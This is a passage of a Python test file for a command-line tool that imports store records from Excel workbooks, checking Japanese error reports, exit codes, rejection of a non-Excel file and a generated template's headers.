    again = run(ini, "import-stores", str(path))
    assert "変更なし 2件" in again.stdout


def test_cli_import_errors_exit_2_with_the_japanese_report(ini, tmp_path, db):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(workbook([row("K0001"), row("K0002", 業種="宝飾")]))
    for args in ((), ("--dry-run",)):
        result = run(ini, "import-stores", str(path), *args)
        assert result.returncode == 2
        assert "取り込みませんでした" in result.stderr
        assert "3行目 業種: 業種「宝飾」は登録できる業種ではありません" in result.stderr
    csv = tmp_path / "list.xlsx"
    csv.write_text("店舗コード,店舗名\n")
    refused = run(ini, "import-stores", str(csv))
    assert (
        refused.returncode == 2
        and "Excelファイル(.xlsx)として読み込めませんでした" in refused.stderr
    )
    assert store_count(db) == 0


def test_cli_store_template(ini, tmp_path):
    path = tmp_path / "template.xlsx"
    result = run(ini, "store-template", str(path))
    assert result.returncode == 0, result.stderr
    ws = openpyxl.load_workbook(path).worksheets[0]
    assert [c.value for c in ws[1]] == HEADERS
